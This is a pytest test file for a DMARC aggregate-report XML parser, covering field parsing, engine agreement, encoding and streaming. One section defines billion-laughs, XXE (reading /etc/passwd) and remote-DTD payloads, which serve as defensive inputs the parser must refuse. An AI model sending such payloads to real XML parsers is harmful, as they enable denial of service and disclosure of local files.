"""The aggregate report parser: every field, both engines, odd shapes, unsafe XML."""

from __future__ import annotations

import io
import re
from datetime import datetime

import polars as pl
import pyarrow as pa
import pytest
from conftest import FIXTURES

from workbench.errors import ParseError, UnsafeInput
from workbench.sources.dmarc import aggregate, aggregate_tree
from workbench.sources.dmarc.aggregate import parse_aggregate, report_key

DMARC = FIXTURES / "dmarc"


def read(name: str) -> bytes:
    return (DMARC / name).read_bytes()


def test_rfc7489_every_field() -> None:
    r = parse_aggregate(read("rfc7489.xml"), "rfc7489.xml")
    assert r.engine == "xml2arrow"
    assert r.warnings == []
    m = r.meta
    assert (m["org_name"], m["org_email"], m["extra_contact_info"], m["report_id"]) == (
        "receiver.example", "dmarc-reports@receiver.example", "https://receiver.example/dmarc", "r7489-0001")
    assert (m["begin_ts"], m["end_ts"]) == (datetime(2025, 11, 27), datetime(2025, 11, 27, 23, 59, 59))
    assert (m["policy_domain"], m["adkim"], m["aspf"], m["p"], m["sp"], m["pct"], m["fo"]) == (
        "brightmart.example", "r", "s", "none", "quarantine", 50, "1")
    assert (m["version"], m["schema"], m["np"], m["testing"]) == ("1.0", "rfc7489", None, None)
    assert r.key == report_key("Receiver.Example ", "r7489-0001")
    assert r.messages == 127
    first, second = r.records.to_dicts()
    assert first == {
        "record_no": 0, "source_ip": "192.0.2.10", "count": 120, "disposition": "none", "policy_dkim": "pass",
        "policy_spf": "pass", "reason_types": None, "reason_comments": None,
        "header_from": "news.brightmart.example", "envelope_from": "news.brightmart.example", "envelope_to": "receiver.example",
        "dkim": [{"domain": "news.brightmart.example", "selector": "bm2026", "result": "pass", "human_result": "2048-bit key"},
                 {"domain": "esp.example", "selector": "s1", "result": "fail", "human_result": None}],
        "spf": [{"domain": "news.brightmart.example", "scope": "mfrom", "result": "pass", "human_result": None}],
        "extensions": None,
    }
    assert second["source_ip"] == "2001:db8::25"
    assert second["reason_types"] == ["forwarded"]
    assert second["reason_comments"] == ["list & forwarder"]  # entity reference of XML itself, decoded
    assert second["spf"] == [{"domain": "lists.example", "scope": None, "result": "softfail", "human_result": None}]  # CDATA
    assert second["envelope_from"] is None


def test_rfc9990_namespace_extensions_and_repeated_reasons_use_the_tree_engine() -> None:
    r = parse_aggregate(read("rfc9990.xml"))
    assert r.engine == "lxml"
    m = r.meta
    assert (m["schema"], m["np"], m["psd"], m["testing"], m["discovery_method"], m["generator"]) == (
        "rfc9990", "reject", "n", "y", "treewalk", "Bis Reporter 2.1")
    assert m["adkim"] is None and m["pct"] is None
    assert "report-level extension" in m["extensions"]
    rec = r.records.row(0, named=True)
    assert rec["reason_types"] == ["local_policy", "mailing_list"]
    assert rec["reason_comments"] == ["first reason", "second reason"]
    assert rec["disposition"] == "reject" and rec["count"] == 31
    assert rec["dkim"] is None
    assert "ext:arc" in rec["extensions"]


def test_draft_without_version_lowercases_keywords() -> None:
    r = parse_aggregate(read("draft.xml"))
    assert r.meta["version"] is None and r.meta["schema"] == "rfc7489"
    rec = r.records.row(0, named=True)
    assert (rec["disposition"], rec["policy_dkim"], rec["policy_spf"]) == ("none", "pass", "fail")
    assert rec["dkim"][0]["result"] == "pass" and rec["dkim"][0]["human_result"] is None


@pytest.mark.parametrize("name", ["rfc7489.xml", "draft.xml", "qp.xml"])
def test_both_engines_agree(name: str) -> None:
    data = read(name)
    fast = parse_aggregate(data)
    assert fast.engine == "xml2arrow"
    tree = aggregate_tree.parse(data, name)
    records = aggregate._records(tree.items, tree.auth, tree.extensions, name)
    assert records.to_dicts() == fast.records.to_dicts()
    assert aggregate._meta(tree.items, data, name, []) == {k: v for k, v in fast.meta.items() if k != "extensions"}


def test_namespace_prefix_and_wrapper_are_found() -> None:
    data = read("rfc7489.xml").replace(b"<feedback>", b'<wrap><d:feedback xmlns:d="urn:x">').replace(b"</feedback>", b"</d:feedback></wrap>")
    data = re.sub(rb"<(/?)(?!d:|wrap|\?|!)([a-z_]+)", rb"<\1d:\2", data)
    r = parse_aggregate(data)
    assert r.engine == "lxml"
    assert r.meta["report_id"] == "r7489-0001" and len(r.records) == 2
    assert any("wrapper was ignored" in w for w in r.warnings)


def test_not_well_formed_xml_is_recovered_with_warnings() -> None:
    data = read("rfc7489.xml").replace(b"<email>dmarc-reports@receiver.example</email>", b"<email><bad@x></email>")
    r = parse_aggregate(data)
    assert r.engine == "lxml" and r.meta["report_id"] == "r7489-0001" and len(r.records) == 2
    assert any("recovered by lxml" in w for w in r.warnings)


def test_invalid_utf8_is_replaced_with_a_warning() -> None:
    data = read("rfc7489.xml").replace(b"<header_from>brightmart.example", b"<header_from>bright\xff\xfemart.example")
    r = parse_aggregate(data)
    assert r.records["header_from"][1] == "bright\ufffd\ufffdmart.example"
    assert len(r.warnings) == 1 and "invalid UTF-8 at byte" in r.warnings[0]


def test_latin1_declared_encoding_is_transcoded() -> None:
    text = read("qp.xml").decode().replace('encoding="UTF-8"', 'encoding="ISO-8859-1"')
    r = parse_aggregate(text.encode("latin-1"))
    assert r.meta["org_name"] == "Réception Exemple" and r.warnings == []


def test_empty_org_name_falls_back_to_the_email_domain() -> None:
    data = read("rfc7489.xml").replace(b"<org_name>receiver.example</org_name>", b"<org_name></org_name>")
    r = parse_aggregate(data)
    assert r.meta["org_name"] == "receiver.example"
    assert any("empty <org_name>" in w for w in r.warnings)


@pytest.mark.parametrize(
    ("edit", "message"),
    [
        ((b"<report_id>r7489-0001</report_id>", b""), "no <report_id>"),
        ((b"<count>7</count>", b"<count>seven</count>"), "valid <count>"),
        ((b"<count>7</count>", b""), "valid <count>"),
        ((b"<org_name>receiver.example</org_name>\n    <email>dmarc-reports@receiver.example</email>", b""), "cannot tell who sent it"),
    ],
)
def test_reports_missing_what_identifies_them_are_refused_whole(edit: tuple[bytes, bytes], message: str) -> None:
    data = read("rfc7489.xml").replace(*edit)
    with pytest.raises(ParseError, match=re.escape(message)):
        parse_aggregate(data)


def test_not_a_report_and_empty_documents() -> None:
    with pytest.raises(ParseError, match="empty document"):
        parse_aggregate(b"  \n")
    with pytest.raises(ParseError, match="no <feedback>"):
        parse_aggregate(b"<html><body>hello</body></html>")


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<feedback><report_metadata><org_name>&lol4;</org_name><report_id>x</report_id></report_metadata></feedback>"""
XXE = b"""<?xml version="1.0"?><!DOCTYPE feedback [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<feedback><report_metadata><org_name>&xxe;</org_name><report_id>x</report_id></report_metadata></feedback>"""
PARAMETER = b"""<!DOCTYPE feedback [<!ENTITY % p SYSTEM "http://203.0.113.1/evil.dtd"> %p;]><feedback/>"""
ATTRIBUTE_DEFAULTS = b"""<?xml version="1.0"?><!DOCTYPE feedback [<!ENTITY a "aaaaaaaaaaaaaaaaaaaa">
<!ATTLIST record x CDATA "&a;&a;&a;&a;&a;&a;&a;&a;">]><feedback><record/></feedback>"""
EXTERNAL_DTD = b"""<?xml version="1.0"?><!DOCTYPE feedback SYSTEM "http://203.0.113.1/dmarc.dtd"><feedback/>"""


@pytest.mark.parametrize("doc", [BILLION_LAUGHS, XXE, PARAMETER, ATTRIBUTE_DEFAULTS, EXTERNAL_DTD,
                                 b"\xef\xbb\xbf<!-- c --><!doctype feedback><feedback/>"])
def test_dtds_and_entities_are_refused(doc: bytes) -> None:
    with pytest.raises(UnsafeInput, match="document type declaration"):
        parse_aggregate(doc)


def test_the_tree_engine_never_expands_entities_even_if_called_directly() -> None:
    tree = aggregate_tree.parse(b"<feedback><report_metadata><org_name>&undeclared;</org_name><report_id>x</report_id></report_metadata></feedback>", "t")
    org = tree.items["org_name"].drop_nulls().to_list()
    assert org in ([], [None]) or all("&" not in o or o == "&undeclared;" for o in org)
    with pytest.raises(UnsafeInput):
        aggregate_tree.parse(XXE, "t")


def test_a_large_clean_document_is_parsed_from_its_stream() -> None:
    data = read("rfc7489.xml")
    head, rest = data.split(b"<record>", 1)
    record = b"<record>" + rest.split(b"</record>", 1)[0] + b"</record>\n"
    n = (aggregate.IN_MEMORY // len(record)) + 50
    body = b"".join(record.replace(b"192.0.2.10", f"10.{i // 65536 % 256}.{i // 256 % 256}.{i % 256}".encode()) for i in range(n))
    stream = io.BytesIO(head + body + b"</feedback>\n")
    r = parse_aggregate(stream, "big.xml")
    assert len(r.records) == n and r.messages == 120 * n
    assert r.records["source_ip"][n - 1] == f"10.{(n - 1) // 65536 % 256}.{(n - 1) // 256 % 256}.{(n - 1) % 256}"
    assert r.records["record_no"].to_list()[:3] == [0, 1, 2]


def test_records_frame_schema_is_stable_for_empty_reports() -> None:
    data = re.sub(rb"<record>.*</record>", b"", read("rfc7489.xml"), flags=re.S)
    r = parse_aggregate(data)
    assert len(r.records) == 0 and r.messages == 0
    assert r.records.schema["dkim"] == pl.List(aggregate.DKIM_STRUCT)
    assert r.records.schema["count"] == pl.Int64


def varied(n: int) -> bytes:
    """Records of every shape the fast engine reads: padded and capitalised values, blank
    fields, 0-3 DKIM results, SPF or none, reasons, envelope_to or none, and one <record>
    without a row (dropped, with its results) in the middle."""
    head = read("rfc7489.xml").split(b"<record>", 1)[0]
    out = []
    for i in range(n):
        dkim = "".join(f"<dkim><domain> D{k}.Example </domain><selector>s{k}</selector><result>{'Pass' if (i + k) % 2 else 'fail'}</result>"
                       + ("<human_result> </human_result>" if k == 1 else "") + "</dkim>" for k in range(i % 4))
        spf = "<spf><domain>Bounce.example</domain><scope>MFROM</scope><result>pass</result></spf>" if i % 3 else ""
        reason = f"<reason><type>{'Forwarded' if i % 2 else 'local_policy'}</type><comment> c{i} </comment></reason>" if i % 5 == 0 else ""
        to = f"<envelope_to>To{i}.example</envelope_to>" if i % 2 else ""
        out.append(f"<record><row><source_ip>\n 10.0.0.{i % 256}</source_ip><count> {i + 1} </count><policy_evaluated>"
                   f"<disposition>None</disposition><dkim>pass</dkim><spf>FAIL</spf>{reason}</policy_evaluated></row>"
                   f"<identifiers>{to}<header_from>Brightmart.example</header_from></identifiers><auth_results>{dkim}{spf}</auth_results></record>")
        if i == n // 2:
            out.append("<record><auth_results><spf><domain>orphan.example</domain><result>pass</result></spf></auth_results></record>")
    return head + "\n".join(out).encode() + b"</feedback>\n"


def engine_tables(data: bytes, trimmed: bool = False) -> tuple[pa.Table, pa.Table]:
    batches = aggregate._fast_parser(trimmed).parse(data)
    return pa.table(batches["items"]), pa.table(batches["auth"])


@pytest.mark.parametrize("trimmed", [False, True])
def test_arrow_shaping_gives_the_records_polars_gives(trimmed: bool) -> None:
    items, auth = engine_tables(varied(60), trimmed)
    got = aggregate._records_arrow(items, auth, first_no=5, trimmed=trimmed)
    assert got is not None
    expected = aggregate._records(pl.from_arrow(items), pl.from_arrow(auth), {}, "doc", first_no=5, trimmed=trimmed)  # type: ignore[arg-type]
    assert len(expected) == 60 and pl.from_arrow(got).to_dicts() == expected.to_dicts()
    row = pl.from_arrow(got).row(2, named=True)
    assert (row["record_no"], row["source_ip"], row["count"], row["policy_spf"]) == (7, "10.0.0.2", 3, "fail")
    assert row["dkim"] == [{"domain": "d0.example", "selector": "s0", "result": "fail", "human_result": None},
                           {"domain": "d1.example", "selector": "s1", "result": "pass", "human_result": None}]


def test_arrow_shaping_of_no_records_keeps_the_schema() -> None:
    items, auth = engine_tables(re.sub(rb"<record>.*</record>", b"", read("rfc7489.xml"), flags=re.S))
    got = pl.from_arrow(aggregate._records_arrow(items, auth))
    assert isinstance(got, pl.DataFrame) and got.is_empty()
    assert got.schema == aggregate._records(pl.from_arrow(items), pl.from_arrow(auth), {}, "doc").schema  # type: ignore[arg-type]


@pytest.mark.parametrize(("old", "new", "column", "value"), [
    (b"<count> 1 </count>", b"<count>+1</count>", "count", 1),  # polars reads a sign; Arrow compute is not asked to
    (b"<header_from>Brightmart.example", "<header_from>BRİGHTMART.example".encode(), "header_from", "BRİGHTMART.example".lower()),
])
def test_values_that_need_polars_rules_are_shaped_by_polars(old: bytes, new: bytes, column: str, value: object) -> None:
    data = varied(10).replace(old, new, 1)
    assert aggregate._records_arrow(*engine_tables(data)) is None
    report = parse_aggregate(data)
    assert report.engine == "xml2arrow" and report.records[column][0] == value and len(report.records) == 10


@pytest.mark.parametrize(("piece", "value", "trimmed"), [
    (b"<human_result>  A  B </human_result>", "A  B", True),
    (b"<human_result>A &amp; B</human_result>", "A & B", False), (b"<human_result>A<!-- c --> B</human_result>", "A B", False),
    (b"<human_result><![CDATA[ A B ]]></human_result>", "A B", False), (b"<human_result>A <?pi x?> B</human_result>", "A  B", False)])
def test_in_memory_reports_use_the_trimming_engine_only_when_no_value_is_split(
        monkeypatch: pytest.MonkeyPatch, piece: bytes, value: str, trimmed: bool) -> None:
    engines: list[bool] = []
    fast_parser = aggregate._fast_parser
    monkeypatch.setattr(aggregate, "_fast_parser", lambda trimmed=False: engines.append(trimmed) or fast_parser(trimmed))
    data = varied(20).replace(b"</scope>", b"</scope>" + piece, 1)
    report = parse_aggregate(data)
    assert engines == [trimmed] and report.engine == "xml2arrow"
    assert report.records["spf"][1][0]["human_result"] == value
